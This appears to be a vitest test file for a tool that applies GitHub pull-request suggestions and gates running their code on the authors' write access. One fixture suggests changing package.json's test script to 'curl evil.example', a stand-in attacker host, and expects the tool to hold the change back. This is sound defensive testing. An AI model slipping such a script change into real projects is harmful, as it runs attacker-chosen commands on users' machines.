import {describe, expect, test} from 'vitest';
import {bot, user} from '../../emulators/github/data.ts';
import {fault} from '../../emulators/github/faults.ts';
import type {RepositoryRole} from '../../emulators/github/records.ts';
import {hostOf} from '../../helpers/host.ts';
import {type Review, reviewOf} from '../../helpers/review-of.ts';
import {type WorkTree, workTree} from '../../helpers/work-tree.ts';

const files = {'src/a.txt': 'one\ntwo\nthree\n', 'package.json': '{\n\t"scripts": {\n\t\t"test": "true"\n\t}\n}\n'};
const roles: Record<string, RepositoryRole> = {octocat: 'admin', author: 'write', ann: 'write', tom: 'triage'};

const clone = () => workTree(files).branch('feature').remote('origin', 'https://github.com/octo/app.git');

async function run(tree: WorkTree, review: Review, ...more: string[]) {
	const {env} = await hostOf([review], {repositories: [{nameWithOwner: 'octo/app', roles}]});
	const {code, json} = await tree.call(['apply', '7', '--json', '--verify', 'echo >> ../runs', ...more], {env});
	return {code, json};
}

describe('the code of a pull request', () => {
	test.each([
		['who may not write', {author: user('stranger')}, /code by stranger, without write access/],
		[
			'who may not write, although the head is not by them',
			{author: user('stranger'), headMakers: ['ann']},
			/by stranger/,
		],
		['whose head was made by another account', {author: user('ann'), headMakers: ['ann', 'stranger']}, /by stranger/],
		['whose head was made by no account', {author: user('ann'), headMakers: [null]}, /by an unknown author/],
		['that is a bot', {author: bot('dependabot'), headMakers: ['ann']}, /by dependabot\[bot\]/],
	])('by an author %s is not run unasked', async (_, init, message) => {
		const tree = clone();
		const review = () => reviewOf(tree, init).suggest('src/a.txt', 2, ['2'], {author: user('ann')});
		const {code, json} = await run(tree, review());
		expect([code, json]).toMatchObject([2, {error: {code: 'untrusted-code', message: expect.stringMatching(message)}}]);
		expect(tree.read('src/a.txt')).toBe(files['src/a.txt']);
		const trusted = await run(tree, review(), '--trust-code');
		expect([trusted.code, trusted.json]).toMatchObject([0, {verification: {state: 'passed'}}]);
	});

	test.each<[RepositoryRole, object]>([
		['write', {verification: {state: 'passed'}}],
		['read', {error: {code: 'untrusted-code'}}],
	])('by the account of a token that may not look roles up is run with the role %s only', async (role, expected) => {
		const tree = clone();
		const review = reviewOf(tree, {author: user('octocat')}).suggest('src/a.txt', 2, ['2'], {
			author: bot('coderabbitai'),
		});
		const repositories = [{nameWithOwner: 'octo/app', roles: {octocat: role}}];
		const gitHub = await hostOf([review], {repositories});
		gitHub.faults.on('REST', fault.none(), fault.status(403, 'Resource not accessible by personal access token'));
		const {json} = await tree.call(['apply', '7', '--json', '--verify', 'true'], {env: gitHub.env});
		expect(json).toMatchObject(expected);
	});

	test('by an author who may write is run', async () => {
		const tree = clone();
		const {code, json} = await run(tree, reviewOf(tree).suggest('src/a.txt', 2, ['2'], {author: user('ann')}));
		expect([code, json]).toMatchObject([0, {verification: {state: 'passed'}}]);
	});

	test('is run if the user says so in a terminal', async () => {
		const tree = clone();
		const review = reviewOf(tree, {author: user('stranger')}).suggest('src/a.txt', 2, ['2'], {author: user('ann')});
		const {env} = await hostOf([review], {repositories: [{nameWithOwner: 'octo/app', roles}]});
		const terminal = tree.terminal(['apply', '7', '--verify', 'echo >> ../runs'], {env});
		await terminal.waitFor('Run it? [yes/NO]');
		terminal.press('y\r');
		await terminal.waitFor('Apply 1 change to 1 file?');
		terminal.press('y\r');
		expect(await terminal.ended).toBe(0);
		expect(terminal.screen()).toContain('echo >> ../runs: passed');
	});
});

test('without a terminal, a role is not enough: a person needs write access', async () => {
	const tree = clone();
	const review = reviewOf(tree)
		.suggest('src/a.txt', 1, ['1'], {author: user('ann')})
		.suggest('src/a.txt', 2, ['2'], {author: user('tom'), authorAssociation: 'COLLABORATOR'})
		.suggest('src/a.txt', 3, ['3'], {author: bot('coderabbitai')});
	const {code, json} = await run(tree, review);
	expect([code, json]).toMatchObject([
		3,
		{
			findings: [
				{outcome: 'applied'},
				{outcome: 'needs-person', reason: 'tom has no write access to this repository (allow with --trust-author tom)'},
				{outcome: 'applied'},
			],
		},
	]);
	const other = clone();
	review.pullRequest.data.commits = [tree.head, other.head];
	const named = await run(other, review, '--trust-author', 'tom');
	expect([named.code, named.json]).toMatchObject([0, {summary: {applied: 3}}]);
});

test('a change to what the command runs needs review, unless its author may write', async () => {
	const script = (author: string) => {
		const tree = clone();
		const review = reviewOf(tree).suggest('package.json', 3, ['\t\t"test": "curl evil.example"'], {
			author: user(author),
		});
		return run(tree, review, '--trust', 'anyone');
	};
	const {code, json} = await script('tom');
	expect([code, json]).toMatchObject([
		3,
		{findings: [{outcome: 'needs-person', reason: 'held back: it can change what the verification runs'}]},
	]);
	expect(await script('ann')).toMatchObject({code: 0, json: {summary: {applied: 1}}});
});

test('no look-up is made where nothing is run', async () => {
	const tree = clone();
	const review = reviewOf(tree, {author: user('stranger')}).suggest('src/a.txt', 2, ['2'], {author: user('tom')});
	const gitHub = await hostOf([review], {repositories: [{nameWithOwner: 'octo/app', roles}]});
	expect((await tree.call(['apply', '7'], {env: gitHub.env})).code).toBe(0);
	expect(gitHub.requests.filter(({document}) => document === '')).toEqual([]);
});
